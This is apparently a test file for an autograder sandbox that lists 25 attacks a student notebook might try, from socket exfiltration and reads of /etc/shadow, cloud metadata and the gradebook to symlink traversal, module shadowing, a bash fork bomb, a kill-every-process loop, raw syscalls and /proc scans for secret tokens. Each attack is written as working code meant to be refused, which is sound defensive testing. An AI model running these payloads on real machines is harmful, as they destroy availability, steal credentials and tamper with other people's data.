"""Attacks 1 to 25: the machine, other people's data, and what a process may use."""

from __future__ import annotations

import os
import platform
import socket
from collections.abc import Iterator
from contextlib import chdir
from pathlib import Path

from attacks.table import EARLY, MIDDLE, Attack, Scene, cells, trying
from autograder.sandbox.filters import DENIED

_SOCKET = "import socket\nopen_ = lambda *to: socket.create_connection(to, timeout=1)"
_READ = "open({!r}, 'rb').read()".format
_ROOMS = ("namespaces",)
_TIMEOUT, _MEMORY = frozenset({"cell-timeout"}), frozenset({"limit-memory"})
_ODD_FILE, _SHADOWED = frozenset({"file-odd"}), frozenset({"module-shadowed"})


def machine(scene: Scene) -> Iterator[Attack]:
    """Yield the attacks of this file."""
    yield from _network(scene)
    yield from _secrets(scene)
    yield from _other_people(scene)
    yield from _environment(scene)
    yield from _files()
    yield from _resources()
    yield from _processes(scene)
    yield from _kernel()
    yield from _keys(scene)


def _network(scene: Scene) -> Iterator[Attack]:
    away = trying(_SOCKET, tcp="open_('192.0.2.1', 80)")
    yield Attack(1, "connects", away, says=("refused tcp",))
    send = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', {})".format
    datagrams = trying(
        _SOCKET,
        udp=send("('192.0.2.1', 53)"),
        name="socket.getaddrinfo('example.org', 80)",
        raw="socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)",
        packet="socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
    )
    said = ("refused udp", "refused name", "refused raw", "refused packet")
    yield Attack(2, "sends-datagrams", datagrams, says=said)
    here = ("127.0.0.1", scene.port)
    local = trying(
        _SOCKET,
        tcp=f"open_{here}",
        fast=f"socket.socket().sendto(b'leak', 0x20000000, {here})",
        multipath=f"socket.socket(2, 1, 262).connect({here})",
    )
    said = ("refused tcp", "refused fast", "refused multipath")
    yield Attack(3, "calls-a-local-service", local, says=said)
    there = send(("127.0.0.1", scene.udp))
    datagram = cells(f"{_SOCKET}\ntry: {there}\nexcept OSError: pass")
    yield Attack(3, "calls-by-datagram", datagram)
    unix = "(lambda one: (one.connect({!r}), one))(socket.socket(socket.AF_UNIX))".format
    grader = trying(_SOCKET, named=unix(str(scene.socket)), abstract=unix("\0" + scene.token))
    yield Attack(4, "calls-the-grader", grader, says=("refused named", "refused abstract"))


def _secrets(scene: Scene) -> Iterator[Attack]:
    secrets = trying(
        f"{_SOCKET}\nimport os\ndef real(text): assert 'root:' in text; return text",
        shadow=_READ("/etc/shadow"),
        passwords="real(open('/etc/passwd').read())",
        key=_READ(str(scene.secret)),
        home=f"os.listdir({str(scene.secret.parent)!r})",
        metadata="open_('169.254.169.254', 80)",
    )
    said = tuple(f"refused {name}" for name in ("shadow", "passwords", "key", "home", "metadata"))
    yield Attack(5, "reads-secrets", secrets, says=said)
    solution = scene.course / "solutions/phase1/01-numbers.ipynb"
    solutions = trying(
        "import os",
        absolute=_READ(str(solution)),
        relative=_READ(os.path.relpath(solution, scene.folder / "submitted/x/phase1")),
        beside=_READ("../../source/phase1/01-numbers.ipynb"),
        listed=f"os.listdir({str(scene.course)!r})",
    )
    said = ("refused absolute", "refused relative", "refused beside", "refused listed")
    yield Attack(6, "reads-the-solution", solutions, says=said)


def _other_people(scene: Scene) -> Iterator[Attack]:
    book = str(scene.folder / "gradebook.db")
    yield Attack(7, "reads-the-gradebook", trying("", book=_READ(book)), says=("refused book",))
    writes = trying(
        "import sqlite3, os",
        sql=f"sqlite3.connect({book!r}).execute('UPDATE grade SET auto_score = 99')",
        append=f"open({book!r}, 'ab')",
        remove=f"os.remove({book!r})",
    )
    said = ("refused sql", "refused append", "refused remove")
    yield Attack(8, "writes-the-gradebook", writes, says=said)
    other = str(scene.folder / "submitted/neighbor/phase1/01-numbers.ipynb")
    touches = trying(
        "import os",
        read=_READ(other),
        write=f"open({other!r}, 'w')",
        cut=f"os.truncate({other!r}, 0)",
        own=f"os.chown({other!r}, os.getuid(), os.getgid())",
    )
    said = ("refused read", "refused write", "refused cut", "refused own")
    yield Attack(9, "reads-another-student", touches, says=said)
    # What a file's mode is after this, the hashes tell.
    mode = f"import os\ntry: os.chmod({other!r}, 0)\nexcept OSError: pass"
    yield Attack(9, "locks-another-student-out", cells(mode))
    leaves = f"""
import contextlib
for place in ('/tmp', '/dev/shm', '/var/tmp', '..', '.'):
    with contextlib.suppress(OSError):
        open(place + '/{scene.token}', 'w')
"""
    yield Attack(9, "leaves-files", cells(leaves))


def _environment(scene: Scene) -> Iterator[Attack]:
    writes = trying(
        "import sys, os, numpy, autograder\nwhere = os.path.dirname",
        pth=f"open(where(where(numpy.__file__)) + '/{scene.token}.pth', 'w')",
        prefix=f"open(sys.prefix + '/{scene.token}', 'w')",
        stdlib=f"open(where(os.__file__) + '/sitecustomize{scene.token}.py', 'w')",
        grader="open(autograder.__file__, 'a')",
        remove="os.remove(numpy.__file__)",
    )
    said = tuple(f"refused {name}" for name in ("pth", "prefix", "stdlib", "grader", "remove"))
    yield Attack(10, "writes-the-environment", writes, says=said)


def _files() -> Iterator[Attack]:
    fake = "raise SystemExit('this is no library')\n"
    modules = {"json.py": fake, "numpy/__init__.py": fake, "asyncio.py": fake}
    imports = cells("import json, numpy\nprint(json.dumps(1), numpy.__name__)")
    shadows = {**imports, **modules}
    yield Attack(11, "shadows-modules", shadows, says=("1 numpy",), flags=_SHADOWED)
    later = cells(f"open('decimal.py', 'w').write({fake!r})")
    yield Attack(11, "shadows-in-the-next-notebook", later, flags=_SHADOWED)
    yield Attack(12, "links", cells("1"), flags=_ODD_FILE, plant=_plant_links)
    one = {"01-numbers.ipynb": cells("1")["01-numbers.ipynb"]}
    yield Attack(
        12,
        "links-a-notebook",
        one,
        flags=_ODD_FILE,
        score=6.0,
        plant=lambda folder: (folder / "02-files.ipynb").symlink_to("/etc/passwd"),
    )
    yield Attack(13, "climbs", cells("1"), flags=_ODD_FILE, plant=_plant_climbing)
    large = frozenset({"file-large", "files-many"})
    yield Attack(14, "is-huge", cells("1"), flags=large, plant=_plant_huge)


def _plant_links(folder: Path) -> None:
    (folder / "soft").symlink_to("/etc/shadow")
    (folder / "around").symlink_to("..")
    os.mkfifo(folder / "pipe")
    outside = folder.parent / "outside.txt"
    outside.write_text("not the student's")
    os.link(outside, folder / "hard.txt")
    with socket.socket(socket.AF_UNIX) as made, chdir(folder):
        made.bind("socket")


def _plant_climbing(folder: Path) -> None:
    (folder / "..\\..\\evil.py").write_text("x = 1")
    (folder / "line\nbreak\x1b[2J").write_text("x")
    (folder / "up").symlink_to("../../..")


def _plant_huge(folder: Path) -> None:
    with (folder / "sparse.bin").open("wb") as file:
        os.truncate(file.fileno(), 1 << 40)
    (folder / "zz").mkdir()
    for number in range(1_100):
        (folder / "zz" / str(number)).touch()


_FILLS = """
try:
    for number in range(100_000):
        with open(f'fill-{number}', 'wb') as file: file.write(bytes(1 << 20))
except OSError as error:
    print('refused', error.errno)
"""
_MAKES_FILES = """
try:
    for number in range(50_000): open(f'fill-{number}', 'w').close()
except OSError as error:
    print('refused', error.errno)
"""
_CLEANS_UP = """
import os
for name in os.listdir('.'):
    if name.startswith('fill-'): os.remove(name)
"""
_FORKS = """
import os, time
count = 0
try:
    while count < 2_000:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        count += 1
except BlockingIOError as error:
    print('refused after', count)
"""
_STARTS_THREADS = """
import threading, time
try:
    for number in range(3_000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
except RuntimeError as error:
    print('refused', error)
"""
_GROWS = "held = []\nwhile True: held.append(bytearray(b'x') * (64 << 20))"
_GROWS_IN_CHILDREN = """
import os, time
for number in range(8):
    if os.fork() == 0:
        held = bytearray(b'x') * (400 << 20)
        time.sleep(60)
time.sleep(60)
"""
_SHARES = """
import ctypes, mmap
libc = ctypes.CDLL(None, use_errno=True)
for call in (lambda: libc.shmget(0, 1 << 30, 0o1600), lambda: libc.memfd_create(b'x', 0)):
    print('refused' if call() == -1 else 'BROKE')
try:
    with open('/dev/shm/large', 'wb') as file:
        for number in range(1_000): file.write(bytes(1 << 20))
    print('BROKE')
except OSError as error:
    print('refused', error.errno)
"""
_BURNS = """
import threading
def spin():
    while True: pass
for number in range(3): threading.Thread(target=spin, daemon=True).start()
spin()
"""


def _resources() -> Iterator[Attack]:
    for name, fills in (("fills-the-disk", _FILLS), ("makes-files", _MAKES_FILES)):
        full = ("refused 28",)  # no space left on device
        yield Attack(15, name, cells(fills, _CLEANS_UP), says=full, tiers=_ROOMS)
    yield Attack(16, "forks", cells(_FORKS), says=("refused after",))
    yield Attack(16, "bombs", cells("!bash -c ':(){ :|:& };:' 2>&1"), flags=_TIMEOUT)
    yield Attack(16, "starts-threads", cells(_STARTS_THREADS), says=("refused",))
    for name, grows in (("takes-memory", _GROWS), ("takes-it-in-children", _GROWS_IN_CHILDREN)):
        files = cells(grows, place=MIDDLE)
        yield Attack(17, name, files, score=EARLY, flags=_MEMORY)
    yield Attack(17, "shares-memory", cells(_SHARES), says=("refused",))
    yield Attack(18, "burns", cells(_BURNS), flags=_TIMEOUT)


def _processes(scene: Scene) -> Iterator[Attack]:
    daemon = f"""
import os, subprocess, sys
sleep = ['sleep', {scene.nap!r}]
subprocess.Popen(sleep, start_new_session=True)
subprocess.Popen(['sh', '-c', 'setsid setsid sleep {scene.nap} &'])
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp('sleep', sleep)
    os._exit(0)
print('started')
"""
    yield Attack(19, "leaves-a-daemon", cells(daemon), says=("started",))
    kills = """
import os, signal
for pid in (os.getppid(), -1, *range(2, 70_000)):
    if pid not in (0, os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
        if pid > 1: print('BROKE', pid)
print('tried')
"""
    yield Attack(20, "kills-everybody", cells(kills), says=("tried",))
    limits = """
import os, resource
for pid in (os.getppid(), *range(max(2, os.getpid() - 300), os.getpid())):
    if pid > 1:
        try:
            resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
        except OSError:
            continue
        print('BROKE', pid)
print('tried')
"""
    yield Attack(20, "limits-everybody", cells(limits), says=("tried",))


def _kernel() -> Iterator[Attack]:
    column = 0 if platform.machine() == "x86_64" else 1
    numbers = {name: both[column] for name, both in DENIED.items()}
    calls = f"""
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
for name, number in {numbers!r}.items():
    status = libc.syscall(number, 0, 0, 0, 0, 0, 0)
    refused = status == -1 and ctypes.get_errno() == errno.EPERM
    print('refused' if refused else 'BROKE', name, status, ctypes.get_errno())
new_user = libc.syscall({(56, 220)[column]}, 0x10000000 | 17, 0, 0, 0, 0)
print('refused clone' if new_user == -1 else 'BROKE clone')
"""
    said = ("refused ptrace", "refused mount", "refused bpf", "refused unshare", "refused clone")
    yield Attack(21, "asks-the-kernel", cells(calls), says=said)
    if column == 0:
        x32 = "import ctypes\nstatus = ctypes.CDLL(None).syscall(0x40000000 | 39)\n"
        x32 += "print('refused' if status == -1 else 'BROKE')"
        yield Attack(22, "calls-as-x32", cells(x32), says=("refused",))
        code = """
import ctypes, mmap
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex('b814000000cd80c3'))  # mov eax, 20; int 0x80; ret
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print('BROKE', call())
"""
        died = frozenset({"process-died"})
        files = cells(code, place=MIDDLE)
        yield Attack(22, "calls-as-32-bit", files, score=EARLY, flags=died)


def _keys(scene: Scene) -> Iterator[Attack]:
    looks = f"""
import glob, os
wanted = {scene.token[::-1]!r}[::-1]
for path in ('/proc/self/environ', *glob.glob('/proc/[0-9]*/environ')):
    try:
        if wanted.encode() in open(path, 'rb').read(): print('BROKE', path)
    except OSError:
        pass
if any(wanted in value for value in os.environ.values()): print('BROKE environ')
for number in os.listdir('/proc/self/fd'):
    try:
        place = os.readlink(f'/proc/self/fd/{{number}}')
    except OSError:
        continue
    if place.startswith('/') and not place.startswith(('/dev/', '/proc')):
        if 'deleted' not in place: print('BROKE', number, place)
print('looked')
"""
    yield Attack(23, "looks-for-keys", cells(looks), says=("looked",))
    paid = """
import os, urllib.request
if any(name.endswith('_API_KEY') for name in os.environ): print('BROKE key')
try:
    print('BROKE', urllib.request.urlopen('https://192.0.2.1/v1/models', timeout=1))
except OSError as error:
    print('refused', error)
"""
    yield Attack(24, "spends-money", cells(paid), says=("refused",))
    shell = cells(
        f"!cat {scene.secret} && echo BROKE",
        f"%%bash\ncat {scene.secret} && echo BROKE\ntouch /usr/evil",
        "%%bash\ntest -e /usr/evil && echo BROKE\necho went on",
        "%pip install --no-input --retries 0 --timeout 1 no-such-name && echo BROKE",
    )
    yield Attack(25, "uses-the-shell", shell, says=("went on",))
